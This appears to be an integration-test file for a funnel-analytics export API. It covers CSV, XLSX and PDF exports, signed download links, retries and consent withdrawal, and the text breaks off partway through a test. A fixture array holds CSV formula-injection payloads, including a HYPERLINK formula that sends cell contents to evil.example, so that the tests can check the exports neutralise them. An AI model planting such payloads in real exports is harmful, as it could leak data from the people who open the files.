import { randomUUID } from "node:crypto";
import { readdir, readFile } from "node:fs/promises";
import { join } from "node:path";
import type { TrackEvent } from "@funnel/events";
import { type FunnelFixture, generateTraffic, USER_AGENTS } from "@funnel/fixtures";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ExportDocument } from "../exports/document";
import type { ExportFormat, ReportType } from "../exports/jobs";
import { outboxDir } from "../exports/mailer";
import { BAR_COLOUR, LINE_COLOUR } from "../exports/pdf-charts";
import { MemoryExportQueue } from "../exports/queue-memory";
import { RENDERERS, type Renderers } from "../exports/render";
import { startExportWorker } from "../exports/worker";
import type { ExportWorker } from "../ports";
import {
  type AccountWithKey,
  createAccountWithKey,
  createTestApp,
  describeAuthCases,
  type EventPipeline,
  putFunnelRequest,
  seedFunnel,
  startEventPipeline,
  type TestApp,
} from "../testing";
import {
  csvSections,
  csvText,
  expectedExportTables,
  outboxMessages,
  pdfText,
  pixelsOf,
  rasterisePage,
  readXlsx,
  type ShownAs,
} from "../testing/exports";

/**
 * POST /api/v1/analytics/export, GET …/export/{job_id} and the signed download, through the app
 * and a running export worker (in-process queue): every export is compared with what the report
 * route answers for the same period, figure by figure, and the file's lifecycle (progress, mail,
 * retries, 24-hour link, consent withdrawal) is followed through the routes.
 */

const PUBLIC_URL = "https://funnels.example.com";
const NOTIFY = "owner@example.com";
const PERIOD = { date_from: "2026-01-01", date_to: "2026-01-31" };
const REPORTS: ReportType[] = ["overview", "conversions", "dropoffs", "revenue"];
const TITLES: Record<ReportType, string> = {
  overview: "Funnel overview",
  conversions: "Conversions report",
  dropoffs: "Drop-off report",
  revenue: "Revenue report",
};
const CONTENT_TYPES: Record<ExportFormat, RegExp> = {
  csv: /^text\/csv/,
  xlsx: /^application\/vnd\.openxmlformats-officedocument\.spreadsheetml\.sheet/,
  pdf: /^application\/pdf/,
};

type Json = Record<string, unknown>;
interface StatusJson {
  job_id: string;
  status: string;
  progress: number;
  funnel_id: string;
  report_type: string;
  format: string;
  created_at: string;
  completed_at?: string;
  expires_at?: string;
  download_url?: string;
  error?: string;
}

let t: TestApp;
let pipeline: EventPipeline;
let worker: ExportWorker;
let a: AccountWithKey;
/** The realistic funnel: a month of generated traffic. */
let shop: FunnelFixture;
/** A funnel whose every visitor-chosen text starts with a formula character. */
let hostile: FunnelFixture;
/** Runs before each render of the worker (a test sets it to hold or fail one). */
let beforeRender: ((doc: ExportDocument) => Promise<void>) | undefined;
let renders = 0;

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  // A formula after a line break inside the text: a new row to a reader that splits at it.
  "Mug\n=1+4",
  "Kit\r\n@SUM(A1:A9)",
  "Cup\r-2+3",
];

beforeAll(async () => {
  t = await createTestApp({ config: { PUBLIC_URL, EXPORT_CONCURRENCY: 2 } });
  // Retries a few milliseconds apart instead of 10 s (the policy itself is the queue's).
  await t.deps.exports.queue.close();
  t.deps.exports.queue = new MemoryExportQueue({ attempts: 3, backoffMs: 20 });
  const renderers = Object.fromEntries(
    Object.entries(RENDERERS).map(([format, render]) => [
      format,
      async (doc: ExportDocument, file: string) => {
        renders++;
        await beforeRender?.(doc);
        await render(doc, file);
      },
    ]),
  ) as Renderers;
  worker = await startExportWorker(t.deps, { renderers, cleanup: false });
  pipeline = startEventPipeline(t);
  a = await createAccountWithKey(t.deps.database, { notificationEmail: NOTIFY });

  shop = funnelFixture("Spring shop", ["optin", "sales", "checkout", "upsell", "thankyou"]);
  hostile = funnelFixture(`${HOSTILE[0]} funnel`, ["optin", "checkout", "thankyou"]);
  for (const f of [shop, hostile]) {
    const response = await putFunnelRequest(t.app, a.headers, f.id, {
      name: f.name,
      steps: f.steps.map(({ id, name, step_type, position }) => ({ id, name, step_type, position })),
      pages: f.pages,
    });
    expect(response.status).toBe(200);
  }
  await pipeline.importEvents(
    a.headers,
    generateTraffic({
      funnel: shop,
      from: new Date("2026-01-01T00:00:00Z"),
      to: new Date("2026-02-01T00:00:00Z"),
      visitors: 150,
      seed: 12,
    }),
  );
  await pipeline.importEvents(a.headers, hostileTraffic(hostile));
});
afterAll(async () => {
  await worker?.close();
  await pipeline?.close();
  await t?.close();
});

function funnelFixture(name: string, types: FunnelFixture["steps"][number]["step_type"][]): FunnelFixture {
  const steps = types.map((step_type, i) => ({
    id: randomUUID(),
    name: `Step ${i + 1} (${step_type})`,
    step_type,
    position: i + 1,
    page_id: randomUUID(),
  }));
  return {
    id: randomUUID(),
    name,
    steps,
    pages: steps.map((s) => ({ id: s.page_id, name: s.name, url: `https://shop.example.com/${s.page_id}` })),
  };
}

/**
 * For each hostile text: a visitor from that source (utm_source) leaves the first step with it as
 * the reason, and another buys a product of that name and id in a session of that id.
 */
function hostileTraffic(f: FunnelFixture): TrackEvent[] {
  const [first, checkout] = f.steps;
  if (!first || !checkout) throw new Error("hostile funnel needs two steps");
  let minute = 0;
  const at = () => new Date(Date.UTC(2026, 0, 10, 10, minute++)).toISOString();
  return HOSTILE.flatMap((text, i) => {
    const leaver = { visitor_id: randomUUID(), session_id: randomUUID() };
    const buyer = { visitor_id: randomUUID(), session_id: `${text} session ${i}` };
    const base = { funnel_id: f.id, user_agent: USER_AGENTS.chromeWindows };
    return [
      {
        ...base,
        ...leaver,
        event_type: "page_view",
        page_id: first.page_id,
        url: "https://shop.example.com/",
        utm_source: text,
        timestamp: at(),
      },
      { ...base, ...leaver, event_type: "step_entry", funnel_step_id: first.id, timestamp: at() },
      {
        ...base,
        ...leaver,
        event_type: "step_exit",
        funnel_step_id: first.id,
        exit_outcome: "bounce",
        metadata: { reason: `${text} reason` },
        timestamp: at(),
      },
      {
        ...base,
        ...buyer,
        event_type: "page_view",
        page_id: checkout.page_id,
        url: "https://shop.example.com/",
        utm_source: text,
        timestamp: at(),
      },
      { ...base, ...buyer, event_type: "step_entry", funnel_step_id: checkout.id, timestamp: at() },
      {
        ...base,
        ...buyer,
        event_type: "conversion",
        conversion_type: "purchase",
        funnel_step_id: checkout.id,
        value_cents: 1_000 + i,
        order_id: `order-${i}`,
        metadata: {
          products: [
            {
              product_id: `${text} id`,
              product_name: `${text} product`,
              quantity: 1,
              price_cents: 1_000 + i,
            },
          ],
        },
        timestamp: at(),
      },
    ] as TrackEvent[];
  });
}

// ---- requests --------------------------------------------------------------------------------

function postExport(body: Json, headers: Record<string, string> = a.headers) {
  return t.app.request("/api/v1/analytics/export", {
    method: "POST",
    headers: { ...headers, "content-type": "application/json" },
    body: JSON.stringify(body),
  });
}

async function status(jobId: string, headers = a.headers): Promise<StatusJson> {
  const response = await t.app.request(`/api/v1/analytics/export/${jobId}`, { headers });
  expect(response.status).toBe(200);
  return (await response.json()) as StatusJson;
}

/** Polls the job until `done` holds (a deadline only so that a hang fails instead of waiting). */
async function waitFor(
  jobId: string,
  done: (s: StatusJson) => boolean,
  headers = a.headers,
): Promise<StatusJson> {
  const deadline = Date.now() + 60_000;
  for (;;) {
    const s = await status(jobId, headers);
    if (done(s)) return s;
    if (s.status === "failed" && !done(s)) throw new Error(`export ${jobId} failed: ${s.error}`);
    if (Date.now() > deadline) throw new Error(`export ${jobId} still ${s.status}`);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

async function exportFile(
  funnel: FunnelFixture,
  report: ReportType,
  format: ExportFormat,
  extra: Json = {},
): Promise<{ job: StatusJson; bytes: Buffer; response: Response }> {
  const posted = await postExport({ funnel_id: funnel.id, report_type: report, format, ...PERIOD, ...extra });
  expect(posted.status).toBe(202);
  const { job_id } = (await posted.json()) as { job_id: string };
  const job = await waitFor(job_id, (s) => s.status === "completed");
  if (!job.download_url) throw new Error("completed without a download_url");
  // No API key: the signed link is the credential.
  const response = await t.app.request(job.download_url);
  expect(response.status).toBe(200);
  expect(response.headers.get("content-type")).toMatch(CONTENT_TYPES[format]);
  return { job, bytes: Buffer.from(await response.arrayBuffer()), response };
}

/** The report route's answer for the same period; conversions with every page of visitors. */
async function reportJson(
  funnel: FunnelFixture,
  report: ReportType,
  extra: Record<string, string> = {},
): Promise<Json> {
  const path = `/api/v1/analytics/funnels/${funnel.id}/${report}?${new URLSearchParams({ ...PERIOD, ...extra })}`;
  if (report !== "conversions")
    return (await (await t.app.request(path, { headers: a.headers })).json()) as Json;
  const first = (await (await t.app.request(`${path}&page_size=500`, { headers: a.headers })).json()) as Json;
  const visitors = [...(first.converting_visitors as Json[])];
  const total = (first.pagination as { total: number }).total;
  for (let page = 2; visitors.length < total; page++) {
    const next = (await (
      await t.app.request(`${path}&page_size=500&page=${page}`, { headers: a.headers })
    ).json()) as Json;
    const rows = next.converting_visitors as Json[];
    if (rows.length === 0) break;
    visitors.push(...rows);
  }
  return { ...first, converting_visitors: visitors };
}

// ---- comparisons with the report -----------------------------------------------------------

/** An ISO instant as the report's time zone's wall time: "2026-01-05" or "2026-01-05 14:03:09". */
const wallTime = (iso: string, timeZone: string, withTime: boolean) =>
  new Intl.DateTimeFormat("sv-SE", {
    timeZone,
    year: "numeric",
    month: "2-digit",
    day: "2-digit",
    ...(withTime ? { hour: "2-digit", minute: "2-digit", second: "2-digit", hourCycle: "h23" } : {}),
  }).format(new Date(iso));
/** A fixed value shown as words ("form_submit" as "Form submit", "thankyou" as "Thank you"). */
const sameWords = (shown: unknown, value: unknown) =>
  String(shown)
    .toLowerCase()
    .replace(/[^a-z]/g, "") ===
  String(value)
    .toLowerCase()
    .replace(/[^a-z]/g, "");
const unitOf = (as: ShownAs) => (as === "rate" ? " (%)" : as === "money" ? " (USD)" : "");
const dollars = (cents: number) =>
  `${cents < 0 ? "-" : ""}$${Math.abs(cents / 100).toLocaleString("en-US", {
    minimumFractionDigits: 2,
    maximumFractionDigits: 2,
  })}`;

/** CSV: every table of the report, every row and figure; texts neutralised, numbers as numbers. */
function expectCsvEqualsReport(text: string, report: ReportType, json: Json): void {
  const { meta, tables } = csvSections(text);
  const timeZone = String((json.period as Json).time_zone);
  const expected = expectedExportTables(report, json);
  expect(meta.get("title")).toBe(TITLES[report]);
  expect(meta.get("Time zone")).toBe(timeZone);
  expect(meta.get("Currency")).toBe("USD");
  expect(tables.map((x) => x.title)).toEqual(expected.map((x) => x.title));
  for (const [i, want] of expected.entries()) {
    const table = tables[i];
    const summary = want.title === "Summary";
    expect(table?.header, want.title).toEqual(
      summary ? ["Metric", "Value"] : want.columns.map((col) => `${col.label}${unitOf(col.as)}`),
    );
    expect(table?.rows, want.title).toHaveLength(want.rows.length);
    want.rows.forEach((row, r) => {
      row.forEach(({ spec, value }, col) => {
        const cell = table?.rows[r]?.[col];
        const where = `${want.title} row ${r} ${spec.label}`;
        if (summary && col === 0) {
          expect(cell, where).toBe(`${value}${unitOf(row[1]?.spec.as ?? "text")}`);
        } else if (typeof value === "number") {
          expect(cell, where).not.toMatch(/^'/);
          const figure = spec.as === "rate" ? value * 100 : spec.as === "money" ? value / 100 : value;
          expect(Number(cell), where).toBeCloseTo(figure, 9);
        } else if (spec.as === "date" || spec.as === "datetime") {
          expect(cell, where).toBe(wallTime(String(value), timeZone, spec.as === "datetime"));
        } else if (spec.as === "enum") {
          expect(sameWords(cell, value), `${where}: ${cell} for ${value}`).toBe(true);
        } else {
          expect(cell, where).toBe(csvText(String(value)));
        }
      });
    });
  }
}

/** XLSX: a sheet per table, labelled; amounts, rates and dates as formatted cells; texts verbatim. */
async function expectXlsxEqualsReport(bytes: Buffer, report: ReportType, json: Json): Promise<void> {
  const sheets = await readXlsx(bytes);
  const timeZone = String((json.period as Json).time_zone);
  const expected = expectedExportTables(report, json);
  expect(sheets.map((s) => s.name)).toEqual(["Report", ...expected.map((x) => x.title)]);
  for (const sheet of sheets) expect(sheet.formulas, sheet.name).toEqual([]);
  for (const want of expected) {
    const sheet = sheets.find((s) => s.name === want.title);
    const shown = want.columns.flatMap((col, i) => (col.csvOnly ? [] : [i]));
    expect(sheet?.rows[0], want.title).toEqual(shown.map((i) => want.columns[i]?.label));
    expect(sheet?.rows.slice(1), want.title).toHaveLength(want.rows.length);
    want.rows.forEach((row, r) => {
      shown.forEach((i, x) => {
        const { spec, value } = row[i] ?? { spec: undefined, value: undefined };
        const cell = sheet?.rows[r + 1]?.[x];
        const format = sheet?.formats[r + 1]?.[x];
        const where = `${want.title} row ${r} ${spec?.label}`;
        if (spec?.as === "money") {
          expect(cell, where).toBeCloseTo(Number(value) / 100, 9);
          expect(format, where).toMatch(/\$/);
        } else if (spec?.as === "rate") {
          expect(cell, where).toBe(value);
          expect(format, where).toBe("0.00%");
        } else if (spec?.as === "date" || spec?.as === "datetime") {
          expect(cell, where).toBeInstanceOf(Date);
          const wall = (cell as Date).toISOString().slice(0, 19).replace("T", " ");
          const want = wallTime(String(value), timeZone, spec.as === "datetime");
          expect(wall.slice(0, want.length), where).toBe(want);
        } else if (spec?.as === "enum") {
          expect(sameWords(cell, value), `${where}: ${cell} for ${value}`).toBe(true);
        } else {
          expect(cell, where).toBe(value);
        }
      });
    });
  }
}

const escapeRegExp = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");

/** PDF: the title, the period, and each row's figures on one line in column order, as people read them. */
async function expectPdfShowsReport(bytes: Buffer, report: ReportType, json: Json, funnel: FunnelFixture) {
  const text = await pdfText(bytes);
  const lines = text.split("\n");
  expect(text).toContain(`${TITLES[report]}: ${funnel.name}`);
  // PERIOD, 2026-01-01 to 2026-01-31, as people write it: the last day included.
  expect(text).toContain(`Period: 1–31 Jan 2026 (${(json.period as Json).time_zone})`);
  for (const want of expectedExportTables(report, json)) {
    expect(text).toContain(want.title);
    for (const row of want.rows) {
      const figures = row.flatMap(({ spec, value }) => {
        if (typeof value !== "number") return [];
        if (spec.as === "rate") return [`${(value * 100).toFixed(2)}%`];
        if (spec.as === "money") return [dollars(value)];
        return [value.toLocaleString("en-US", { maximumFractionDigits: 2 })];
      });
      if (figures.length === 0) continue;
      if (want.title === "Summary") figures.unshift(String(row[0]?.value));
      const pattern = new RegExp(figures.map(escapeRegExp).join(".*"));
      expect(
        lines.some((l) => pattern.test(l)),
        `${want.title}: ${figures.join(" ")}`,
      ).toBe(true);
    }
  }
  // Rates are shown as percentages, money in dollars, times as dates: no fraction, cents or ISO time.
  expect(text).not.toMatch(/(^|\s)-?0\.\d+(\s|$)/m);
  expect(text).not.toMatch(/cents|T\d\d:\d\d:\d\d/);
}

// ---- tests -----------------------------------------------------------------------------------

describe("POST /api/v1/analytics/export", () => {
  it("answers 202 with the job id, processing and an estimated completion", async () => {
    const before = Date.now();
    const response = await postExport({
      funnel_id: shop.id,
      report_type: "overview",
      format: "csv",
      ...PERIOD,
    });
    expect(response.status).toBe(202);
    const body = (await response.json()) as { job_id: string; status: string; estimated_completion: string };
    expect(body.job_id).toMatch(/^[0-9a-f-]{36}$/);
    expect(body.status).toBe("processing");
    expect(Date.parse(body.estimated_completion)).toBeGreaterThanOrEqual(before);
    const job = await status(body.job_id);
    expect(job).toMatchObject({
      job_id: body.job_id,
      funnel_id: shop.id,
      report_type: "overview",
      format: "csv",
    });
    await waitFor(body.job_id, (s) => s.status === "completed");
  });

  it.each([
    ["report_type", { report_type: "funnel" }],
    ["report_type", { report_type: undefined }],
    ["format", { format: "docx" }],
    ["format", { format: undefined }],
    ["date_from", { date_from: "2026-13-01" }],
    ["date_to", { date_to: "yesterday" }],
    ["date_from", { date_from: "2026-02-01", date_to: "2026-01-01" }],
    ["funnel_id", { funnel_id: "not-a-uuid" }],
    ["include_charts", { include_charts: "yes" }],
    ["tz", { tz: "Mars/Olympus" }],
    ["granularity", { granularity: "month" }],
  ])("400 naming %s for %j", async (field, change) => {
    const response = await postExport({
      funnel_id: shop.id,
      report_type: "overview",
      format: "csv",
      ...PERIOD,
      ...change,
    });
    expect(response.status).toBe(400);
    const body = (await response.json()) as { error: { code: string } };
    expect(JSON.stringify(body)).toContain(field);
  });

  it("404 for an unknown funnel and for another account's funnel, and queues nothing", async () => {
    const b = await createAccountWithKey(t.deps.database);
    const theirs = await seedFunnel(t.app, b.headers);
    for (const funnelId of [randomUUID(), theirs.funnelId]) {
      const response = await postExport({
        funnel_id: funnelId,
        report_type: "overview",
        format: "csv",
        ...PERIOD,
      });
      expect(response.status).toBe(404);
      expect(((await response.json()) as { error: { code: string } }).error.code).toBe("NOT_FOUND");
    }
  });

  it("429 naming the limit past the account's unfinished exports, also in a burst; other accounts still queue", async () => {
    const cap = t.deps.config.EXPORT_QUEUED_PER_ACCOUNT;
    expect(cap).toBe(5); // the default
    const c = await createAccountWithKey(t.deps.database);
    const name = `Capped ${randomUUID()}`;
    const { funnelId } = await seedFunnel(t.app, c.headers, { name });
    let release = () => {};
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    // Its renders wait, so its exports stay queued or running.
    beforeRender = (doc) => (doc.funnelName === name ? held : Promise.resolve());
    const request = { funnel_id: funnelId, report_type: "overview", format: "csv", ...PERIOD };
    try {
      // Twice the cap at once: the count and the insert take turns, so exactly the cap passes.
      const burst = await Promise.all(Array.from({ length: 2 * cap }, () => postExport(request, c.headers)));
      const accepted = burst.filter((r) => r.status === 202);
      const refused = burst.filter((r) => r.status === 429);
      expect([accepted.length, refused.length]).toEqual([cap, cap]);
      for (const response of refused) {
        expect(response.headers.get("retry-after")).toMatch(/^[1-9]\d*$/);
        expect(await response.json()).toEqual({
          error: {
            code: "RATE_LIMITED",
            message: `at most ${cap} exports may be queued or running per account; try again when one has finished`,
            request_id: expect.any(String),
          },
        });
      }
      const jobs = await Promise.all(
        accepted.map(async (r) => ((await r.json()) as { job_id: string }).job_id),
      );
      // Refused requests left no job behind.
      expect(new Set(jobs).size).toBe(cap);
      // Another account's request is not refused by this one's exports.
      const theirs = await postExport({
        funnel_id: shop.id,
        report_type: "overview",
        format: "csv",
        ...PERIOD,
      });
      expect(theirs.status).toBe(202);
      const theirJob = ((await theirs.json()) as { job_id: string }).job_id;

      release();
      for (const job of jobs) await waitFor(job, (s) => s.status === "completed", c.headers);
      await waitFor(theirJob, (s) => s.status === "completed");
      // Finished exports free their places.
      const again = await postExport(request, c.headers);
      expect(again.status).toBe(202);
      const next = ((await again.json()) as { job_id: string }).job_id;
      await waitFor(next, (s) => s.status === "completed", c.headers);
    } finally {
      beforeRender = undefined;
      release();
    }
  });
});

describe("an export job", () => {
  it("GET shows it in progress, then completed with a link valid for 24 hours", async () => {
    let release = () => {};
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    beforeRender = (doc) => (doc.funnelName === shop.name ? held : Promise.resolve());
    try {
      const posted = await postExport({
        funnel_id: shop.id,
        report_type: "revenue",
        format: "xlsx",
        ...PERIOD,
      });
      const { job_id } = (await posted.json()) as { job_id: string };
      const running = await waitFor(job_id, (s) => s.status === "processing" && s.progress > 0.5);
      expect(running.progress).toBeLessThan(1);
      expect(running.download_url).toBeUndefined();
      expect(running.completed_at).toBeUndefined();
      release();
      const done = await waitFor(job_id, (s) => s.status === "completed");
      expect(done.progress).toBe(1);
      expect(done.error).toBeUndefined();
      expect(Date.parse(done.expires_at ?? "") - Date.parse(done.completed_at ?? "")).toBe(24 * 3600 * 1000);
      expect(done.download_url).toMatch(
        new RegExp(`^/api/v1/analytics/export/${job_id}/download\\?expires=\\d+&signature=[\\w-]+$`),
      );
    } finally {
      beforeRender = undefined;
      release();
    }
  });

  it.each(REPORTS)(
    "CSV of %s, downloaded without a key, holds what the report route answers",
    async (report) => {
      const { bytes, response } = await exportFile(shop, report, "csv");
      expect(response.headers.get("content-disposition")).toMatch(
        new RegExp(`attachment; filename="${report}-2026-01-01-2026-01-31\\.csv"`),
      );
      const json = await reportJson(shop, report);
      expectCsvEqualsReport(bytes.toString("utf8"), report, json);
      // The data is not trivially empty: there is something to compare.
      if (report === "overview") expect((json.visitors as Json).unique).toBeGreaterThan(0);
      if (report === "conversions") expect((json.converting_visitors as Json[]).length).toBeGreaterThan(10);
      if (report === "revenue") expect((json.top_products as Json[]).length).toBeGreaterThan(0);
    },
  );

  it.each(REPORTS)("XLSX of %s holds what the report route answers", async (report) => {
    const { bytes } = await exportFile(shop, report, "xlsx");
    await expectXlsxEqualsReport(bytes, report, await reportJson(shop, report));
  });

  it.each(REPORTS)("PDF of %s shows the report's title, period and figures", async (report) => {
    const { bytes } = await exportFile(shop, report, "pdf");
    await expectPdfShowsReport(bytes, report, await reportJson(shop, report), shop);
  });

  it("in the time zone asked for: the period, its buckets and times as that zone's dates", async () => {
    const tz = { tz: "America/New_York" };
    const pdf = await exportFile(shop, "conversions", "pdf", tz);
    const json = await reportJson(shop, "conversions", tz);
    expect((json.period as Json).time_zone).toBe(tz.tz);
    await expectPdfShowsReport(pdf.bytes, "conversions", json, shop);
    const csv = await exportFile(shop, "conversions", "csv", tz);
    expectCsvEqualsReport(csv.bytes.toString("utf8"), "conversions", json);
    expect(csvSections(csv.bytes.toString("utf8")).meta.get("Period")).toBe("1–31 Jan 2026");
    await expectXlsxEqualsReport(
      (await exportFile(shop, "conversions", "xlsx", tz)).bytes,
      "conversions",
      json,
    );
  });

  it("PDF with include_charts draws the charts; without, none", async () => {
    const charted = await rasterisePage(
      (await exportFile(shop, "revenue", "pdf", { include_charts: true })).bytes,
      1,
    );
    expect(pixelsOf(charted, LINE_COLOUR).length).toBeGreaterThan(50);
    expect(pixelsOf(charted, BAR_COLOUR).length).toBeGreaterThan(50);
    const plain = await rasterisePage((await exportFile(shop, "revenue", "pdf")).bytes, 1);
    expect(pixelsOf(plain, LINE_COLOUR)).toEqual([]);
    expect(pixelsOf(plain, BAR_COLOUR)).toEqual([]);
    // include_charts is for PDFs only: a CSV with it is the same tables.
    const csv = await exportFile(shop, "overview", "csv", { include_charts: true });
    expectCsvEqualsReport(csv.bytes.toString("utf8"), "overview", await reportJson(shop, "overview"));
  });
});

describe("texts visitors chose", () => {
  it("reach the reports (so the exports below are tested on them)", async () => {
    const revenue = await reportJson(hostile, "revenue");
    const sources = (revenue.by_source as { source: string }[]).map((s) => s.source);
    const products = (revenue.top_products as { product_name: string }[]).map((p) => p.product_name);
    const reasons = ((await reportJson(hostile, "dropoffs")).steps_with_drop_off as Json[]).flatMap((s) =>
      (s.common_exit_reasons as { reason: string }[]).map((r) => r.reason),
    );
    const sessions = (
      (await reportJson(hostile, "conversions")).converting_visitors as { session_id: string }[]
    ).map((v) => v.session_id);
    for (const text of HOSTILE) {
      expect(sources).toContain(text);
      expect(products).toContain(`${text} product`);
      expect(reasons).toContain(`${text} reason`);
      expect(sessions.some((s) => s.startsWith(text))).toBe(true);
    }
  });

  it.each(REPORTS)("CSV of %s: every one is neutralised, every figure stays a number", async (report) => {
    const { bytes } = await exportFile(hostile, report, "csv");
    const text = bytes.toString("utf8");
    expectCsvEqualsReport(text, report, await reportJson(hostile, report));
    expect(csvSections(text).meta.get("Funnel")).toBe(`'${hostile.name}`);
  });

  it.each(REPORTS)("XLSX of %s: kept verbatim as text, never a formula", async (report) => {
    const { bytes } = await exportFile(hostile, report, "xlsx");
    await expectXlsxEqualsReport(bytes, report, await reportJson(hostile, report));
  });
});

describe("the download link", () => {
  let job: StatusJson;
  let link: URL;
  beforeAll(async () => {
    ({ job } = await exportFile(shop, "overview", "csv"));
    link = new URL(job.download_url ?? "", "http://x");
  });
  const download = (url: URL, headers: Record<string, string> = {}) =>
    t.app.request(`${url.pathname}${url.search}`, { headers });
  const withParam = (name: string, value: string) => {
    const url = new URL(link);
    url.searchParams.set(name, value);
    return url;
  };

  it("is refused (403) when its signature or expiry is changed, or another job's signature is used", async () => {
    const signature = link.searchParams.get("signature") ?? "";
    const flipped = `${signature.slice(0, -1)}${signature.endsWith("A") ? "B" : "A"}`;
    const expires = Number(link.searchParams.get("expires"));
    const other = new URL((await exportFile(shop, "dropoffs", "csv")).job.download_url ?? "", "http://x");
    const borrowed = new URL(link);
    borrowed.search = other.search;
    for (const url of [
      withParam("signature", flipped),
      withParam("signature", signature.slice(1)),
      withParam("expires", String(expires + 3600)),
      withParam("expires", String(expires - 1)),
      borrowed,
    ]) {
      const response = await download(url);
      expect(response.status, url.search).toBe(403);
      expect(((await response.json()) as { error: { code: string } }).error.code).toBe("FORBIDDEN");
    }
    // An API key changes nothing: the link alone decides.
    expect((await download(withParam("signature", flipped), a.headers)).status).toBe(403);
    expect((await download(link)).status).toBe(200);
  });

  it("is refused (403) with a plain message when its expiry or signature is missing or no number", async () => {
    const signature = link.searchParams.get("signature") ?? "";
    const expires = link.searchParams.get("expires") ?? "";
    const bare = new URL(link);
    bare.search = "";
    const only = (params: Record<string, string>) => {
      const url = new URL(link);
      url.search = new URLSearchParams(params).toString();
      return url;
    };
    for (const url of [
      bare,
      only({ signature }),
      only({ expires }),
      only({ expires: "", signature }),
      only({ expires: "soon", signature }),
      only({ expires: `${expires}.0`, signature }),
      only({ expires: `+${expires}`, signature }),
      only({ expires, signature: "" }),
    ]) {
      const response = await download(url);
      expect(response.status, url.search).toBe(403);
      const body = (await response.json()) as { error: { code: string; message: string } };
      expect(body.error.code, url.search).toBe("FORBIDDEN");
      // Says what is wrong with the link, not how a parameter failed to parse.
      expect(body.error.message, url.search).toMatch(/link/);
      expect(body.error.message, url.search).not.toMatch(/NaN|expected|received/);
    }
  });

  it("works until 24 hours after completion, then is gone (410), and GET no longer offers it", async () => {
    const completed = Date.parse(job.completed_at ?? "");
    const realNow = t.deps.exports.now;
    try {
      t.deps.exports.now = () => new Date(completed + 24 * 3600 * 1000 - 60_000);
      expect((await download(link)).status).toBe(200);
      t.deps.exports.now = () => new Date(completed + 24 * 3600 * 1000 + 1_000);
      const gone = await download(link);
      expect(gone.status).toBe(410);
      expect(((await gone.json()) as { error: { code: string } }).error.code).toBe("GONE");
      const later = await status(job.job_id);
      expect(later.status).toBe("completed");
      expect(later.download_url).toBeUndefined();
    } finally {
      t.deps.exports.now = realNow;
    }
  });

  it("another account's key cannot see the job (404)", async () => {
    const b = await createAccountWithKey(t.deps.database);
    const response = await t.app.request(`/api/v1/analytics/export/${job.job_id}`, { headers: b.headers });
    expect(response.status).toBe(404);
    expect(JSON.stringify(await response.json())).not.toContain("signature");
  });

  it("is mailed to the key's notification address when the export is ready", async () => {
    const absolute = new URL(job.download_url ?? "", PUBLIC_URL).toString();
    const messages = await outboxMessages(outboxDir(t.deps.config));
    const mail = messages.find((m) => m.includes(absolute));
    expect(mail, `no message with ${absolute}`).toBeDefined();
    expect(mail).toMatch(new RegExp(`^To: ${escapeRegExp(NOTIFY)}$`, "m"));
    expect(mail).toMatch(/^Subject: .*overview export \(CSV\) is ready/m);
    // One message per export.
    expect(messages.filter((m) => m.includes(job.job_id))).toHaveLength(1);
  });
});

describe("retries", () => {
  it("a render that fails once is retried and the job completes", async () => {
    let failures = 0;
    const before = renders;
    beforeRender = async (doc) => {
      if (doc.funnelName === shop.name && failures === 0) {
        failures++;
        throw new Error("disk full (test)");
      }
    };
    try {
      const { bytes } = await exportFile(shop, "revenue", "csv");
      expect(failures).toBe(1);
      expect(renders - before).toBe(2);
      expectCsvEqualsReport(bytes.toString("utf8"), "revenue", await reportJson(shop, "revenue"));
    } finally {
      beforeRender = undefined;
    }
  });

  it("a render that always fails ends failed after its attempts, with the reason", async () => {
    let attempts = 0;
    beforeRender = async (doc) => {
      if (doc.funnelName === shop.name) {
        attempts++;
        throw new Error("renderer broken (test)");
      }
    };
    try {
      const posted = await postExport({
        funnel_id: shop.id,
        report_type: "overview",
        format: "pdf",
        ...PERIOD,
      });
      const { job_id } = (await posted.json()) as { job_id: string };
      const failed = await waitFor(job_id, (s) => s.status === "failed");
      expect(attempts).toBe(3);
      expect(failed.error).toMatch(/attempt 3 of 3/);
      expect(failed.download_url).toBeUndefined();
    } finally {
      beforeRender = undefined;
    }
  });
});

describe("consent withdrawal", () => {
  const withdraw = (visitorId: string) =>
    t.app.request(`/api/v1/analytics/visitors/${visitorId}/consent-withdrawn`, {
      method: "POST",
      headers: a.headers,
    });

  /** The converting-visitor rows and summary of a conversions CSV. */
  const parse = (bytes: Buffer) => {
    const { tables } = csvSections(bytes.toString("utf8"));
    const visitors = tables.find((x) => x.title === "Converting visitors");
    const summary = tables.find((x) => x.title === "Summary");
    if (!visitors || !summary) throw new Error("no converting visitors or summary in the CSV");
    return { visitors: visitors.rows, summary: summary.rows, all: tables };
  };

  it("removes the visitor's id from an unexpired conversions export; its figures stay", async () => {
    const { job, bytes } = await exportFile(shop, "conversions", "csv");
    const before = parse(bytes);
    const target = before.visitors[0];
    const visitorId = target?.[0] ?? "";
    expect(visitorId).toMatch(/^[0-9a-f-]{36}$/);
    const sessionId = target?.[1] ?? "";

    const withdrawn = await withdraw(visitorId);
    expect(withdrawn.status, await withdrawn.clone().text()).toBe(202);

    // The same link still works and serves the re-rendered file.
    const response = await t.app.request(job.download_url ?? "");
    expect(response.status).toBe(200);
    const afterText = Buffer.from(await response.arrayBuffer()).toString("utf8");
    expect(afterText).not.toContain(visitorId);
    expect(afterText).not.toContain(sessionId);
    const after = parse(Buffer.from(afterText));
    // Same rows, same figures; only the withdrawn visitor's ids differ (and lead nowhere).
    expect(after.summary).toEqual(before.summary);
    expect(after.visitors).toHaveLength(before.visitors.length);
    after.visitors.forEach((row, i) => {
      const old = before.visitors[i] ?? [];
      expect(row.slice(2)).toEqual(old.slice(2));
      if (i === 0) expect(row[0]).not.toBe(old[0]);
      else expect(row).toEqual(old);
    });
    // Nor in the report data kept beside the file for later re-renders.
    for (const name of await readdir(t.deps.exports.dir)) {
      if (name.startsWith(job.job_id))
        expect(await readFile(join(t.deps.exports.dir, name), "utf8"), name).not.toContain(visitorId);
    }
  });

  it("applies to an export being rendered when consent is withdrawn", async () => {
    const report = await reportJson(shop, "conversions");
